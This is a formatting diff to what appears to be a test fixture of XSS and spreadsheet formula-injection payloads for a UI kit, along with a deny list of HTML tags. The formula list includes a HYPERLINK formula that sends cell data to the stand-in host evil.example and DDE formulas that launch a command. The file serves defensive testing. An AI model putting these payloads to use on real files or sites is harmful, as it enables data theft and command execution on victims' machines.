@@ -122,21 +122,48 @@ const VECTORS = [
 /** Spreadsheet formula injection (exports must guard these). */
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"click")',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '+SUM(1,2)',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
 ];
 
 /** All payloads: at least 100, each distinct and non-empty. */
-export const XSS_PAYLOADS: readonly string[] = [...new Set([...VECTORS.map((v) => v.replaceAll('X', CALL)), ...FORMULAS])];
+export const XSS_PAYLOADS: readonly string[] = [
+  ...new Set([...VECTORS.map((v) => v.replaceAll('X', CALL)), ...FORMULAS]),
+];
 
 /** Tags that the kit never renders and an injection would bring (the kit's own buttons and inputs are checked by attribute). */
 export const FORBIDDEN_TAGS = new Set([
-  'script', 'img', 'iframe', 'object', 'embed', 'link', 'meta', 'base', 'form', 'textarea', 'video', 'audio', 'source',
-  'image', 'foreignobject', 'animate', 'set', 'math', 'marquee', 'isindex', 'keygen', 'body', 'template', 'noscript',
-  'custom-el', 'xss', 'style', 'ck-source',
+  'script',
+  'img',
+  'iframe',
+  'object',
+  'embed',
+  'link',
+  'meta',
+  'base',
+  'form',
+  'textarea',
+  'video',
+  'audio',
+  'source',
+  'image',
+  'foreignobject',
+  'animate',
+  'set',
+  'math',
+  'marquee',
+  'isindex',
+  'keygen',
+  'body',
+  'template',
+  'noscript',
+  'custom-el',
+  'xss',
+  'style',
+  'ck-source',
 ]);
